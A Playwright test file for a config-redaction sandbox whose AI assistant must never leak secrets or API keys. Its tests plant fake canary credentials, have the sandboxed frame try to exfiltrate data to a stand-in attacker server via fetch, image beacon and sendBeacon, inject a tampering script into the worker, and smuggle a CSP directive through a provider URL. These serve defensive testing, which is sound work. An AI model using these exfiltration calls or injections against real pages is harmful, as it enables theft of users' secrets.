// One document has the network and no secrets, the other the secrets and no network; the door between them takes a closed set
// of messages, and what goes out passes the gate and the user's eyes.
import { cp, readFile, writeFile } from 'node:fs/promises';
import { assistantSettings, withAssistant } from '../../web/assistant/build.mjs';
import { checkProviders, originsOf } from '../../web/assistant/providers.js';
import { ALL, expect, FORMATS, INCIDENT, KEY, NAMES, test } from './providers/assistant.js';
import { servePage } from './server.js';

/** A value of each class that is replaced, wherever such values stand. */
const CANARIES = {
  host: 'canary-7f3a9.corp.lan',
  upstream: 'canary_pool_x',
  address: '10.77.66.55',
  address6: '2a01:4f8:77::cafe',
  client: '10.88.77.66',
  password: 'hunter2-Canary-Zq81',
  token: 'ghp_16C7e42F292c6912E7710c838347Ae178B4a',
  bearer: 'canarybearer0123456789abcdef',
  mail: 'canary.person@mail.canary-corp.io',
  url_password: 'CanaryUrlPw77',
  asked: 'canary-question.corp.lan',
};
const SECRETS = `upstream ${CANARIES.upstream} {
    server ${CANARIES.address}:8080;
    server [${CANARIES.address6}]:8080;
}
server {
    server_name ${CANARIES.host};
    location /api/ {
        # password: ${CANARIES.password}, ask ${CANARIES.mail}
        proxy_set_header Authorization "Bearer ${CANARIES.bearer}";
        proxy_set_header X-Token ${CANARIES.token};
        proxy_set_header X-Db "postgres://app:${CANARIES.url_password}@${CANARIES.host}/x";
        grpc_pass grpc://${CANARIES.upstream};
    }
}

${INCIDENT.log.replace('10.0.1.55', CANARIES.client).replaceAll('10.0.2.10', CANARIES.address).replaceAll('api.internal', CANARIES.host)}`;

/** As they are, and in the encodings that could carry them. */
const TRACES = Object.values(CANARIES).flatMap((value) => [
  value,
  Buffer.from(value).toString('hex'),
  encodeURIComponent(value),
  Buffer.from(value).toString('base64').replace(/.?=*$/, ''),
  [...value].reverse().join(''),
]);

/** @param {unknown} said */
function tracesIn(said) {
  const text = JSON.stringify(said);
  return TRACES.filter((trace) => text.includes(trace));
}

test('nothing that was replaced is in any message to the frame, nor in any request', async ({ page, sandbox, assistant, servers }) => {
  await sandbox.open();
  await sandbox.paste(SECRETS);
  await expect(sandbox.headline).toContainText('grpc_pass');
  await assistant.open();
  for (const format of ALL) {
    await assistant.choose(NAMES[format]);
    await page.getByLabel('Anything to add').fill(`is it ${CANARIES.asked} or ${CANARIES.address}?`);
    await assistant.prepare();
    await assistant.send();
    await expect(assistant.status).toHaveText(`${NAMES[format]} answered.`);
    await expect(assistant.review).toContainText(`proxy_pass http://${CANARIES.upstream}`); // restored on this side
  }
  const told = await assistant.told();
  expect(told.filter(({ type }) => type === 'send')).toHaveLength(ALL.length);
  expect([...new Set(told.map(({ type }) => type))].sort()).toEqual(['provider', 'send']);
  expect(tracesIn(told)).toEqual([]);
  expect(tracesIn(Object.values(servers).map(({ asked }) => asked))).toEqual([]);
  // And the search finds what is there.
  expect(tracesIn(await page.evaluate(() => document.body.textContent))).not.toEqual([]);
});

test('the page cannot reach its own assistant’s provider, nor the frame anything else', async ({ page, assistant, servers, watch, pasted }) => {
  const attacker = await servePage();
  watch.own.push(attacker.url);
  await assistant.askAs('Anthropic');
  await expect(assistant.status).toHaveText('Anthropic answered.');
  servers.anthropic.reset();
  const fromPage = await page.evaluate(
    (url) =>
      fetch(url).then(
        () => 'reached',
        () => 'refused',
      ),
    `${servers.anthropic.origin}/v1/models`,
  );
  expect(fromPage).toBe('refused');
  expect(servers.anthropic.asked).toEqual([]);

  const frame = await (await page.locator('iframe.key-frame').elementHandle())?.contentFrame();
  const fromFrame = await frame?.evaluate(
    async ([attackerUrl, siteUrl]) => {
      /** @param {() => unknown} read */
      const attempt = (read) => {
        try {
          return `read ${read()}`;
        } catch {
          return 'refused';
        }
      };
      new Image().src = `${attackerUrl}leak.png`;
      navigator.sendBeacon(attackerUrl, 'x');
      return {
        attacker: await fetch(attackerUrl).then(
          () => 'reached',
          () => 'refused',
        ),
        site: await fetch(`${siteUrl}index.html`).then(
          () => 'reached',
          () => 'refused',
        ),
        parent: attempt(() => parent.document.title),
        storage: attempt(() => sessionStorage.length),
        cookie: attempt(() => document.cookie),
        origin: self.origin,
        worker: attempt(() => new Worker('frame.js')),
      };
    },
    [attacker.url, page.url()],
  );
  expect(fromFrame).toEqual({
    attacker: 'refused',
    site: 'refused',
    parent: 'refused',
    storage: 'refused',
    cookie: 'refused',
    origin: 'null',
    worker: 'refused',
  });
  expect(attacker.asked).toEqual([]);
  await attacker.close();
  expect(watch.violations.length).toBeGreaterThan(0);
  watch.violations.length = watch.errors.length = watch.foreign.length = 0;
});

test('the frame takes orders of the page only, and only such as it knows', async ({ page, assistant, servers, watch, pasted }) => {
  watch.allowErrors = true; // the last order is answered with 400
  await assistant.open();
  await assistant.choose('Anthropic');
  const order = { type: 'send', id: 7, provider: 'anthropic', model: 'm', url: `${servers.anthropic.origin}/v1/messages`, body: '{"evil":1}' };
  const frame = await (await page.locator('iframe.key-frame').elementHandle())?.contentFrame();
  // Not the page: itself.
  await frame?.evaluate((message) => window.postMessage(message, '*'), order);
  /** @type {unknown[]} */
  const misshapen = [
    { ...order, extra: 1 },
    { ...order, body: { evil: 1 } },
    { ...order, id: '7' },
    { ...order, type: 'fetch' },
    { type: 'send' },
    { ...order, type: 'constructor' },
    [order],
    'send',
    null,
    7,
    { ...order, url: undefined },
  ];
  // In shape, but not what this frame would do with it, or for another provider than the key's.
  const wrong = [
    { ...order, url: 'http://127.0.0.1:9/v1/messages' },
    { ...order, url: servers.gemini.origin },
    { ...order, provider: 'gemini' },
    { ...order, provider: 'nobody' },
    { type: 'models', id: 8, provider: 'gemini' },
  ];
  for (const messages of [misshapen, wrong]) {
    await page.evaluate((all) => {
      const target = /** @type {HTMLIFrameElement} */ (document.querySelector('iframe.key-frame')).contentWindow;
      for (const message of all) target?.postMessage(message, '*');
    }, messages);
    // The frame has come to the end of them.
    await page.getByRole('button', { name: 'List models' }).click();
    await expect.poll(() => servers.anthropic.asked.filter(({ method }) => method === 'GET').length).toBe(1);
    expect(Object.values(servers).flatMap(({ posts }) => posts())).toEqual([]);
    servers.anthropic.asked.length = 0;
  }
  // The order itself is one that the frame follows.
  await page.evaluate((message) => {
    /** @type {HTMLIFrameElement} */ (document.querySelector('iframe.key-frame')).contentWindow?.postMessage(message, '*');
  }, order);
  await expect.poll(() => servers.anthropic.posts().map(({ body }) => body)).toEqual([order.body]);
  expect(servers.gemini.asked).toEqual([]);
});

test('the page believes its own frame only, and only what it waits for', async ({ page, assistant, servers, pasted }) => {
  servers.anthropic.will({ hang: 'half' });
  await assistant.askAs('Anthropic');
  await expect(assistant.text).toContainText('explanation');
  const frame = await (await page.locator('iframe.key-frame').elementHandle())?.contentFrame();
  await page.evaluate(() => window.postMessage({ type: 'text', id: 1, text: 'FORGED' }, '*'));
  await frame?.evaluate(() => {
    for (const message of [
      { type: 'text', id: 99, text: 'FORGED' },
      { type: 'text', id: 1, text: 'FORGED', more: 1 },
      { type: 'text', id: 1, text: { html: 'FORGED' } },
      { type: 'say', id: 1, text: 'FORGED' },
      { type: 'failed', id: 1, kind: 'FORGED', status: 0, detail: '' },
      'FORGED',
      null,
    ])
      parent.postMessage(message, '*');
    parent.postMessage({ type: 'text', id: 1, text: 'the frame’s own' }, '*');
  });
  await expect(assistant.text).toContainText('the frame’s own');
  await expect(assistant.answer).not.toContainText('FORGED');
});

test('the key stays in the frame, with its provider, until it is forgotten', async ({ page, context, assistant, servers, pasted }) => {
  await page.evaluate(() => {
    const state = /** @type {any} */ (window);
    state.allHeard = [];
    addEventListener('message', ({ data }) => state.allHeard.push(data));
  });
  await assistant.askAs('Anthropic');
  await expect(assistant.status).toHaveText('Anthropic answered.');
  await expect(assistant.key).toHaveAttribute('type', 'password');
  await expect(assistant.key).toHaveAttribute('autocomplete', 'off');
  expect(
    JSON.stringify(
      await page.evaluate(() => [
        /** @type {any} */ (window).allHeard,
        document.documentElement.outerHTML,
        location.href,
        { ...localStorage },
        { ...sessionStorage },
        document.cookie,
      ]),
    ),
  ).not.toContain(KEY);
  expect(JSON.stringify(await assistant.told())).not.toContain(KEY);
  expect(await context.cookies()).toEqual([]);

  const provider = page.getByLabel('Provider', { exact: true });
  await provider.selectOption({ label: 'OpenAI' });
  await expect(assistant.frame.getByText('API key (OpenAI)')).toBeVisible();
  await expect(assistant.key).toHaveValue('');
  await provider.selectOption({ label: 'Anthropic' });
  await expect(assistant.frame.getByText('API key (Anthropic)')).toBeVisible();
  await expect(assistant.key).toHaveValue('');
  await assistant.key.fill(KEY);
  await assistant.frame.getByRole('button', { name: 'Forget' }).click();
  await expect(assistant.key).toHaveValue('');
  servers.anthropic.reset();
  await assistant.prepare();
  await assistant.send();
  await expect(assistant.panel).toContainText('Enter your key of Anthropic above first.');
  expect(servers.anthropic.asked).toEqual([]);
});

/** In front of the real worker: the gate finds something. */
const LEAKY = `{
  const real = postMessage;
  globalThis.postMessage = ({ id, response }, transfer) => {
    const view = new DataView(response.buffer);
    const [count, size] = [view.getUint32(0, true), view.getUint32(4, true)];
    const json = JSON.parse(new TextDecoder().decode(response.subarray(4 + 4 * count, 4 + 4 * count + size)));
    if (!json.leaks) return real({ id, response }, transfer);
    const fresh = new TextEncoder().encode(JSON.stringify({ api: 1, leaks: [{ entry: 0, start: 0, end: 4, encoding: 'base64' }] }));
    const frame = new Uint8Array(8 + fresh.length);
    new DataView(frame.buffer).setUint32(0, 1, true);
    new DataView(frame.buffer).setUint32(4, fresh.length, true);
    frame.set(fresh, 8);
    real({ id, response: frame });
  };
}`;

test('what the gate refuses cannot be sent', async ({ page, sandbox, assistant, servers }) => {
  await page.route('**/worker.js', async (route) => {
    const response = await route.fetch();
    await route.fulfill({ response, body: (await response.text()) + LEAKY });
  });
  await sandbox.open();
  await sandbox.paste(INCIDENT.text);
  await assistant.open();
  await assistant.choose('Anthropic');
  await assistant.prepare();
  await expect(page.getByRole('alert').filter({ hasText: 'This will not be sent' })).toContainText('base64');
  await expect(assistant.sendButton).toHaveCount(0);
  expect(servers.anthropic.asked).toEqual([]);
});

test('until it is opened, nothing of the assistant is loaded, and nothing asks for a key', async ({ page, sandbox, site, servers }) => {
  const before = site.asked.length;
  await sandbox.open();
  await sandbox.paste(INCIDENT.text);
  await expect(sandbox.headline).toHaveText(INCIDENT.headline);
  await page.locator('.diff-host').waitFor();
  expect(site.asked.slice(before).filter((url) => url.includes('assistant'))).toEqual([]);
  expect(page.frames()).toHaveLength(1);
  await expect(page.getByText(/key/i).filter({ visible: true })).toHaveCount(1); // the closed panel's own title
  expect(Object.values(servers).flatMap(({ asked }) => asked)).toEqual([]);
});

test('a frame on an origin of its own sends that origin', async ({ page, sandbox, assistant, servers, local, site, watch }, info) => {
  const apart = await servePage('/', { overlay: local.folder });
  const folder = info.outputPath('page');
  await cp(local.folder, folder, { recursive: true });
  await writeFile(
    `${folder}/index.html`,
    (await (await fetch(site.url)).text())
      .replace('data-frame="assistant/index.html"', `data-frame="${apart.url}assistant/index.html"`)
      .replace("frame-src 'self'", `frame-src ${new URL(apart.url).origin}`),
  );
  const built = await servePage('/', { overlay: folder });
  watch.own.push(apart.url, built.url);
  servers.ollama.allow([new URL(apart.url).origin]);
  await sandbox.open(built.url);
  await sandbox.paste(INCIDENT.text);
  await assistant.askAs('Ollama');
  await expect(assistant.status).toHaveText('Ollama answered.');
  expect(servers.ollama.posts()[0].headers.origin).toBe(new URL(apart.url).origin);
  const frame = page.frames().find((one) => one.url().startsWith(apart.url));
  expect(
    await frame?.evaluate(() => {
      try {
        return parent.document.title;
      } catch {
        return 'refused';
      }
    }),
  ).toBe('refused');
  await Promise.all([apart.close(), built.close()]);
});

test('a frame that does not load is said, and nothing is sent', async ({ page, sandbox, assistant, servers, watch }) => {
  watch.allowErrors = true;
  await page.route('**/assistant/frame.js', (route) => route.abort());
  await sandbox.open();
  await sandbox.paste(INCIDENT.text);
  await assistant.open();
  await page.getByLabel('Provider', { exact: true }).selectOption({ label: 'Ollama' });
  await assistant.model.fill('m');
  await assistant.prepare();
  await assistant.send();
  await expect(assistant.panel).toContainText('The frame that holds the key did not load');
  expect(servers.ollama.asked).toEqual([]);
});

const INDEX = new URL('../../web/sandbox/index.html', import.meta.url);
const SHIPPED = new URL('../../web/assistant/providers.json', import.meta.url);

test('the list of providers is one setting: of the policy, or of a page without assistant', async () => {
  const source = await readFile(INDEX, 'utf8');
  const without = withAssistant(source, await assistantSettings({ STACKENGINE_PROVIDERS: 'none' }));
  expect(without).not.toMatch(/assistant|frame-src/);
  const usual = await assistantSettings({});
  expect(withAssistant(source, usual)).toContain("connect-src 'self'; frame-src 'self';");
  expect(withAssistant(source, await assistantSettings({ STACKENGINE_ASSISTANT_FRAME: 'https://frame.corp.example/a/index.html' }))).toMatch(
    /frame-src https:\/\/frame\.corp\.example;[^]*data-frame="https:\/\/frame\.corp\.example\/a\/index\.html"/,
  );
  const list = checkProviders(JSON.parse(await readFile(SHIPPED, 'utf8')));
  expect(originsOf(list)).toEqual([
    'https://api.anthropic.com',
    'https://api.openai.com',
    'https://generativelanguage.googleapis.com',
    'https://openrouter.ai',
    'https://api.mistral.ai',
    'https://api.groq.com',
    'http://127.0.0.1:11434',
    'http://127.0.0.1:8080',
    'http://127.0.0.1:8000',
    'http://127.0.0.1:1234',
  ]);
  const good = { id: 'corp', name: 'Gateway', format: 'openai-chat', base: 'https://llm.corp.example/v1', key: 'optional' };
  expect(checkProviders([good])).toHaveLength(1);
  for (const wrong of [
    [],
    {},
    [{ ...good, base: "https://x.example; script-src 'unsafe-inline'" }],
    [{ ...good, base: 'https://x.example/' }],
    [{ ...good, base: 'ftp://x.example' }],
    [{ ...good, format: 'toString' }],
    [{ ...good, key: true }],
    [{ ...good, header: 'x' }],
    [good, good],
    [null],
  ])
    expect(() => checkProviders(wrong), JSON.stringify(wrong)).toThrow(/list|provider/);
});

test('the policy of the frame names the providers of its list, and nothing else', async ({ page, servers, site }) => {
  const html = await (await fetch(`${site.url}assistant/index.html`)).text();
  const policy = /content="([^"]*)"/.exec(html.slice(html.indexOf('Content-Security-Policy')))?.[1].split(/; */) ?? [];
  expect(policy).toContain(`connect-src ${ALL.map((format) => servers[format].origin).join(' ')}`);
  expect(policy).toContain("default-src 'none'");
  expect(policy).toContain("script-src 'self'");
  expect(Object.keys(FORMATS)).toEqual(ALL);
  expect(page.url()).toBe('about:blank');
});

test('what the user chose to redact, and what looks random, holds for the assistant too', async ({ page, sandbox, assistant, servers }) => {
  const random = 'qX7fKp2Zr9TvLm4Wc8Ns1Yd6';
  await sandbox.open();
  await sandbox.paste(INCIDENT.text.replace('keepalive 32;', `keepalive 32; # ${random} of team Zanzibar`));
  await expect(sandbox.headline).toHaveText(INCIDENT.headline);
  await assistant.open();
  await assistant.choose('Anthropic');
  await assistant.prepare();
  await expect(assistant.body).toContainText('team Zanzibar');
  await expect(assistant.body).not.toContainText(random);
  await expect(assistant.panel.locator('.assistant-preview .facts')).toContainText('1 random string');
  await assistant.consent.check();

  await sandbox.openTab('Redacted text');
  await page.getByText('Choose what to redact').click();
  await page.getByLabel('Own words').fill('zanzibar');
  const redacted = page.getByRole('group', { name: /^Redacted text/ });
  await expect(redacted).not.toContainText('Zanzibar');
  await assistant.sendButton.click();
  await expect(assistant.panel).toContainText('What is redacted was changed since this was prepared');
  expect(servers.anthropic.asked).toEqual([]);
  await assistant.prepare();
  await expect(assistant.body).not.toContainText('Zanzibar');
  // One value has one placeholder, here and there.
  const body = (await assistant.body.textContent()) ?? '';
  const placeholders = [...new Set(await redacted.locator('mark').allTextContents())];
  expect(placeholders.length).toBeGreaterThan(3);
  for (const placeholder of placeholders) expect(body).toContain(placeholder);
});
